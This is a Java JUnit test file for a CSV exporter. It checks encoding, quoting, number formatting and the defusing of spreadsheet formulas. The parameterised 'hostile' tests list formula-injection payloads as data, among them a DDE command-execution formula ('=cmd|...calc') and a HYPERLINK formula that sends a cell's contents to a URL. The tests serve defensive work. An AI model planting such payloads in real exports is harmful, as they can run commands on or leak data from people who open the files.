package org.atelier.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("A table as CSV")
class CsvTest {

    @Test
    @DisplayName("[H17] begins with a byte-order mark, ends its lines in CRLF, and quotes what people wrote")
    void bytes() {
        Table table = new Table(
                List.of("Numéro", "Texte"),
                List.of(
                        List.of(Cell.of(1), Cell.of("Du temps, « enfin »")),
                        List.of(Cell.of(2), Cell.of("Il dit \"non\"\nme semble")),
                        List.of(Cell.of(-3), Cell.NONE)));

        assertThat(new String(Csv.of(table), StandardCharsets.UTF_8))
                .isEqualTo(
                        "\uFEFF\"Numéro\",\"Texte\"\r\n1,\"Du temps, « enfin »\"\r\n2,\"Il dit \"\"non\"\"\nme semble\"\r\n-3,\r\n");
    }

    @Test
    @DisplayName("gives numbers to two decimals, with a point")
    void numbers() {
        Table table = new Table(
                List.of("a", "b", "c", "d"),
                List.of(List.of(Cell.of(2.0), Cell.of(3.456), Cell.of(-0.5), Cell.of(100.0))));

        assertThat(StrictCsv.read(Csv.of(table)).getLast()).containsExactly("2", "3.46", "-0.5", "100");
    }

    @Tag("hostile")
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\0=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)",
                " =1+1",
                "\u00A0=1+1",
                "\"=1+1",
                "=HYPERLINK(\"http://example.org/?x=\"&A1,\"ici\")",
                "=cmd|' /C calc'!A0"
            })
    @DisplayName("[H17] has an apostrophe before what a spreadsheet would compute")
    void formulas(String text) {
        assertThat(Csv.harmless(text).replaceAll("^[\\s\u00A0\"]*", "")).startsWith("'");
        assertThat(Csv.harmless(text).replaceFirst("'", ""))
                .isEqualTo(text.startsWith("\t") || text.startsWith("\r") ? text.charAt(0) + "'=1" : text);
    }

    @Tag("hostile")
    @Test
    @DisplayName("[H17] hides no formula behind a semicolon from a spreadsheet that separates cells with it")
    void otherSeparators() {
        assertThat(Csv.harmless("a;=1")).isEqualTo("a;'=1");
        assertThat(Csv.harmless("a; =1;b")).isEqualTo("a; '=1;b");
        assertThat(Csv.harmless("a\n=1")).isEqualTo("a\n'=1");
        assertThat(Csv.harmless("a\t＝1")).isEqualTo("a\t'＝1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Deux = un", "l’eau - le feu", "moi@ici.org", "a; b", "100 % d’accord", "'=déjà"})
    @DisplayName("leaves words as they are")
    void words(String text) {
        assertThat(Csv.harmless(text)).isEqualTo(text);
    }

    @Test
    @Tag("property")
    @DisplayName("[H17] is read back by a strict reader as the same cells, whatever people write")
    void roundTrip() {
        long seed = new Random().nextLong();
        Random chance = new Random(seed);
        for (int round = 0; round < 300; round++) {
            List<List<String>> cells = cells(chance);
            Table table = new Table(
                    cells.getFirst(),
                    cells.stream()
                            .skip(1)
                            .map(row -> row.stream().map(Cell::of).toList())
                            .toList());
            List<List<String>> expected = cells.stream()
                    .map(row -> row.stream().map(Csv::harmless).toList())
                    .toList();

            assertThat(StrictCsv.read(Csv.of(table))).as("seed %d", seed).isEqualTo(expected);
        }
    }

    private static List<List<String>> cells(Random chance) {
        int columns = chance.nextInt(1, 6);
        List<List<String>> rows = new ArrayList<>();
        for (int row = chance.nextInt(1, 8); row > 0; row--) {
            List<String> cells = new ArrayList<>();
            for (int column = 0; column < columns; column++) {
                cells.add(text(chance));
            }
            rows.add(cells);
        }
        return rows;
    }

    private static String text(Random chance) {
        String[] signs = {
            "\"", ",", "\r", "\n", "\r\n", ";", "\t", "=", "+", "-", "@", "＝", "'", " ", "é", "𝄞", "a", "\uFEFF"
        };
        var text = new StringBuilder();
        for (int length = chance.nextInt(9); length > 0; length--) {
            text.append(signs[chance.nextInt(signs.length)]);
        }
        return text.toString();
    }
}
